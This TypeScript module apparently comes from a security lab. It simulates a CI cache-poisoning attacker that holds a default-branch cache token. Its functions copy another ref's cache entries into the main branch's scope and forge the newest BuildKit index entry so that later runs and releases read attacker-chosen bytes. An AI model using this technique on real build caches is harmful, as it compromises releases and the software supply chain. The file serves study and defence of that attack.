/** What somebody can do who has a token of the default branch's cache and no identity to sign with (as Cacheract does). */
import { createHash } from 'node:crypto';
import type { CacheService } from '../../lab/services/cache.ts';
import type { CacheEntry } from '../../lab/services/cache-entries.ts';
import { call, saveAs } from './cache-client.ts';

export const MAIN = 'refs/heads/main';

function tokenFor(service: CacheService, scope: string): Promise<string> {
  return service.runtimeToken({ scopes: [{ Scope: scope, Permission: 3 }] });
}

async function readEntry(
  service: CacheService,
  { scope, key, version }: CacheEntry,
): Promise<Buffer> {
  const token = await tokenFor(service, scope);
  const found = await call(
    service,
    'GetCacheEntryDownloadURL',
    { key, version, restore_keys: [] },
    token,
  );
  const response = await fetch(String(Object(found)['signed_download_url']));
  return Buffer.from(await response.arrayBuffer());
}

/** BuildKit's names of an index end in a fingerprint of the ref, and `#` with a number that grows. */
function fingerprint(scope: string): string {
  return createHash('sha256').update(scope).digest('hex').slice(0, 8);
}

/** Copies everything that one ref wrote to where the default branch's runs, and releases, look. Returns how many. */
export async function plantEntries(service: CacheService, from: string): Promise<number> {
  const token = await tokenFor(service, MAIN);
  const there = service.entries().filter(({ scope }) => scope === MAIN);
  let planted = 0;
  for (const entry of service.entries().filter(({ scope }) => scope === from)) {
    const content = await readEntry(service, entry);
    const key = entry.key
      .replace(`-${fingerprint(from)}`, `-${fingerprint(MAIN)}`)
      .replace(/#\d+$/, '#90');
    if (there.some((one) => one.key === key)) continue;
    await saveAs(service, { key, version: entry.version, content }, token);
    planted += 1;
  }
  return planted;
}

/** Puts other bytes under the name that is read next. Returns whether there was something to replace. */
export async function forgeIndex(
  service: CacheService,
  change: (text: string) => string,
): Promise<boolean> {
  const token = await tokenFor(service, MAIN);
  const newest = service
    .entries()
    .filter(({ scope, key }) => scope === MAIN && key.startsWith('index-'))
    .at(-1);
  if (newest === undefined) return false;
  const content = Buffer.from(change((await readEntry(service, newest)).toString('utf8')));
  const key = newest.key.replace(/#\d+$/, '#99');
  await saveAs(service, { key, version: newest.version, content }, token);
  return true;
}
